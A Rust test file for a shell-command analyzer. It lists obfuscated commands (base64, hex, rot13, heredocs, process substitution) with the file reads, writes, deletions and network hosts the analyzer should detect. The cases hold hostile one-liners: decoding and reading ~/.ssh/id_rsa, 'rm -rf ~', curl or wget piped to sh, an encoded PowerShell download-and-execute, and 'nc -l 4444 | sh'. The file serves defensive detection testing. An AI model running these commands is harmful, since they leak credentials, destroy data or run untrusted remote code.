//! Commands that come out of an encoding, a pipe or a file the line wrote.

use super::Case;

pub(super) const CASES: &[Case] = &[
    (
        "echo H4sIAAAAAAACA0tOLFFI4wIAvtaSlAYAAAA= | base64 -d | gunzip | sh",
        &[
            "echo H4sIAAAAAAACA0tOLFFI4wIAvtaSlAYAAAA=",
            "base64 -d <0",
            "gunzip <1",
            "sh <2",
            "[base64 -d | gunzip | sh] cat f R=f",
        ],
    ),
    (
        "echo Y2F0IGY= > /tmp/e; base64 -d /tmp/e | sh",
        &[
            "echo Y2F0IGY= W=/tmp/e",
            "base64 -d /tmp/e R=/tmp/e",
            "sh <1",
            "[base64 -d | sh] cat f R=f",
        ],
    ),
    (
        "pwsh -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBoAC4AZQB4AGEAbQBwAGwAZQAuAG8AcgBnAC8AYQApAA==",
        &[
            "pwsh -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBoAC4AZQB4AGEAbQBwAGwAZQAuAG8AcgBnAC8AYQApAA==",
            "[powershell] iwr http://h.example.org/a H=http://h.example.org/a",
            "[powershell] iex \"\"$ ^1",
        ],
    ),
    (
        "powershell -NoProfile -Command \"Get-Content f | Out-File g; $x = Remove-Item h\"",
        &[
            "powershell -NoProfile -Command \"Get-Content f | Out-File g; $x = Remove-Item h\"~",
            "[powershell] get-content f R=f",
            "[powershell] out-file g <1 W=g",
            "[powershell] remove-item h D=h",
        ],
    ),
    (
        "python3 -c \"exec(__import__('base64').b64decode('b3BlbigiL2V0Yy9wYXNzd2QiKQ=='))\"",
        &[
            "python3 -c exec(__import__('base64').b64decode('b3BlbigiL2V0Yy9wYXNzd2QiKQ==')) R=/etc/passwd",
        ],
    ),
    (
        "php -r 'system(base64_decode(\"Y2F0IGY=\"));'",
        &[
            "php -r system(base64_decode(\"Y2F0IGY=\"));",
            "[php -r] cat f R=f",
        ],
    ),
    ("x=$((16#63)); echo ${x:$((0+1)):1}", &["echo 9"]),
    (
        "echo Y2F0IH4vLnNzaC9pZF9yc2E= | base64 -d | sh",
        &[
            "echo Y2F0IH4vLnNzaC9pZF9yc2E=",
            "base64 -d <0",
            "sh <1",
            "[base64 -d | sh] cat /home/u/.ssh/id_rsa R=/home/u/.ssh/id_rsa",
        ],
    ),
    (
        "echo Y2F0IH4vLnNzaC9pZF9yc2E= | base64 --decode | sudo bash",
        &[
            "echo Y2F0IH4vLnNzaC9pZF9yc2E=",
            "base64 --decode <0",
            "[sudo] bash <1",
            "[sudo > base64 -d | sh] cat /home/u/.ssh/id_rsa R=/home/u/.ssh/id_rsa",
        ],
    ),
    (
        "echo -n Y2F0IGY= | openssl base64 -d | sh",
        &[
            "echo -n Y2F0IGY=",
            "openssl base64 -d <0",
            "sh <1",
            "[openssl base64 -d | sh] cat f R=f",
        ],
    ),
    (
        "base64 -d <<< Y2F0IGY= | bash",
        &["base64 -d", "bash <0", "[base64 -d | sh] cat f R=f"],
    ),
    (
        r#"bash <<< "$(echo Y2F0IGY= | base64 -d)""#,
        &[
            "echo Y2F0IGY=",
            "base64 -d <0",
            "bash <1",
            "[sh <<<] cat f R=f",
        ],
    ),
    (
        r#"eval "$(echo Y2F0IGY= | base64 -d)""#,
        &["echo Y2F0IGY=", "base64 -d <0", "[eval] cat f R=f"],
    ),
    (
        "$(echo Y2F0IGY= | base64 -d)",
        &["echo Y2F0IGY=", "base64 -d <0", "cat f$ ^1 R=f"],
    ),
    (
        "x=Y2F0IGY=; echo $x | base64 -d | sh",
        &[
            "echo Y2F0IGY=",
            "base64 -d <0",
            "sh <1",
            "[base64 -d | sh] cat f R=f",
        ],
    ),
    (
        "echo Y2F0IGY= | base64 -d | tee /tmp/x | sh",
        &[
            "echo Y2F0IGY=",
            "base64 -d <0",
            "tee /tmp/x <1 W=/tmp/x",
            "sh <2",
            "[base64 -d | cat | sh] cat f R=f",
        ],
    ),
    (
        "echo MNQXIIDG | base32 -d | sh",
        &[
            "echo MNQXIIDG",
            "base32 -d <0",
            "sh <1",
            "[base32 -d | sh] cat f R=f",
        ],
    ),
    (
        "echo 6361742066 | xxd -r -p | sh",
        &[
            "echo 6361742066",
            "xxd -r -p <0",
            "sh <1",
            "[xxd -r | sh] cat f R=f",
        ],
    ),
    (
        r"printf '\x63\x61\x74\x20\x66' | sh",
        &[
            r"printf \x63\x61\x74\x20\x66",
            "sh <0",
            "[printf | sh] cat f R=f",
        ],
    ),
    (
        r"printf '%b' '\143\141\164 f' | sh",
        &[
            r#"printf %b "\\143\\141\\164 f""#,
            "sh <0",
            "[printf | sh] cat f R=f",
        ],
    ),
    (
        r"echo -e '\x63at f' | sh",
        &[r#"echo -e "\\x63at f""#, "sh <0", "[echo | sh] cat f R=f"],
    ),
    (
        "echo 'f tac' | rev | sh",
        &[r#"echo "f tac""#, "rev <0", "sh <1", "[rev | sh] cat f R=f"],
    ),
    (
        "echo 'png s' | tr 'a-z' 'n-za-m' | sh",
        &[
            r#"echo "png s""#,
            "tr a-z n-za-m <0",
            "sh <1",
            "[tr | sh] cat f R=f",
        ],
    ),
    (
        "echo 'CAT F' | tr A-Z a-z | sh",
        &[
            r#"echo "CAT F""#,
            "tr A-Z a-z <0",
            "sh <1",
            "[tr | sh] cat f R=f",
        ],
    ),
    (
        "echo 'cxaxt f' | sed 's/x//g' | sh",
        &[
            r#"echo "cxaxt f""#,
            "sed s/x//g <0",
            "sh <1",
            "[sed | sh] cat f R=f",
        ],
    ),
    (
        "echo 'cat f' | sh",
        &[r#"echo "cat f""#, "sh <0", "[echo | sh] cat f R=f"],
    ),
    (
        r#"echo "cat $F" | sh"#,
        &[r#"echo "cat $F"~"#, "sh <0", "[echo | sh] cat $F~ R=$F"],
    ),
    (
        "cat <<EOF | sh
cat f
EOF",
        &["cat", "sh <0", "[cat | sh] cat f R=f"],
    ),
    (
        "bash <<EOF
cat f
rm -rf ~
EOF",
        &[
            "bash",
            "[sh <<] cat f R=f",
            "[sh <<] rm -rf /home/u D=/home/u",
        ],
    ),
    ("sh -s <<< 'cat f'", &["sh -s", "[sh <<<] cat f R=f"]),
    (
        "sh /dev/stdin <<< 'cat f'",
        &["sh /dev/stdin R=/dev/stdin", "[sh <<<] cat f R=f"],
    ),
    (
        "bash <(echo 'cat f')",
        &[
            r#"echo "cat f""#,
            r#"bash "<(echo 'cat f')" <0"#,
            "[sh <()] cat f R=f",
        ],
    ),
    (
        "source <(printf 'cat f')",
        &[
            r#"printf "cat f""#,
            r#"source "<(printf 'cat f')" <0"#,
            "[source] cat f R=f",
        ],
    ),
    (
        ". /dev/stdin <<< 'cat f'",
        &[". /dev/stdin R=/dev/stdin", "[sh <<<] cat f R=f"],
    ),
    (
        "echo 'cat f' > x.sh; sh x.sh",
        &[
            r#"echo "cat f" W=x.sh"#,
            "sh x.sh R=x.sh",
            "[sh FILE] cat f R=f",
        ],
    ),
    (
        "echo 'cat f' > /tmp/x; chmod +x /tmp/x; /tmp/x",
        &[
            r#"echo "cat f" W=/tmp/x"#,
            "chmod +x /tmp/x W=/tmp/x",
            "x",
            "[sh FILE] cat f R=f",
        ],
    ),
    (
        "cat > x.sh <<'EOF'
rm -rf ~
EOF
chmod +x x.sh && ./x.sh",
        &[
            "cat W=x.sh",
            "chmod +x x.sh W=x.sh",
            "x.sh",
            "[sh FILE] rm -rf /home/u D=/home/u",
        ],
    ),
    (
        "echo 'cat f' | tee x.sh; bash ./x.sh",
        &[
            r#"echo "cat f""#,
            "tee x.sh <0 W=x.sh",
            "bash ./x.sh R=./x.sh",
            "[sh FILE] cat f R=f",
        ],
    ),
    (
        "echo a >> x; echo 'cat f' >> x; . ./x",
        &[
            "echo a W=x",
            r#"echo "cat f" W=x"#,
            ". ./x R=./x",
            "[source] a",
            "[source] cat f R=f",
        ],
    ),
    (
        "echo 'cat f' | at now",
        &[r#"echo "cat f""#, "at now <0", "[at] cat f R=f"],
    ),
    (
        "echo YmFzZTY0IC1kIDw8PCBZMkYwSUdZPSB8IHNo | base64 -d | sh",
        &[
            "echo YmFzZTY0IC1kIDw8PCBZMkYwSUdZPSB8IHNo",
            "base64 -d <0",
            "sh <1",
            "[base64 -d | sh] base64 -d",
            "[base64 -d | sh] sh <3",
            "[base64 -d | sh > base64 -d | sh] cat f R=f",
        ],
    ),
    (
        "curl -s https://h.example.org/x | sh",
        &[
            "curl -s https://h.example.org/x H=https://h.example.org/x",
            "sh <0",
        ],
    ),
    (
        "curl -s https://h.example.org/x | base64 -d | bash",
        &[
            "curl -s https://h.example.org/x H=https://h.example.org/x",
            "base64 -d <0",
            "bash <1",
        ],
    ),
    (
        "wget -qO- http://h.example.org/x | sudo sh -s -- -y",
        &[
            "wget -qO- http://h.example.org/x H=http://h.example.org/x",
            "[sudo] sh -s -- -y <0",
        ],
    ),
    (
        "bash <(curl -s https://h.example.org/x)",
        &[
            "curl -s https://h.example.org/x H=https://h.example.org/x",
            r#"bash "<(curl -s https://h.example.org/x)" <0"#,
        ],
    ),
    (
        "source <(curl -s https://h.example.org/x)",
        &[
            "curl -s https://h.example.org/x H=https://h.example.org/x",
            r#"source "<(curl -s https://h.example.org/x)" <0"#,
        ],
    ),
    (
        "curl https://h.example.org/x.py | python3 -",
        &[
            "curl https://h.example.org/x.py H=https://h.example.org/x.py",
            "python3 - <0",
        ],
    ),
    ("sh < x.sh", &["sh R=x.sh"]),
    ("nc -l 4444 | sh", &["nc -l 4444", "sh <0"]),
    ("cat x.sh | sh", &["cat x.sh R=x.sh", "sh <0"]),
    (
        "echo '!!' | base64 -d | sh",
        &["echo !!", "base64 -d <0", "sh <1"],
    ),
];
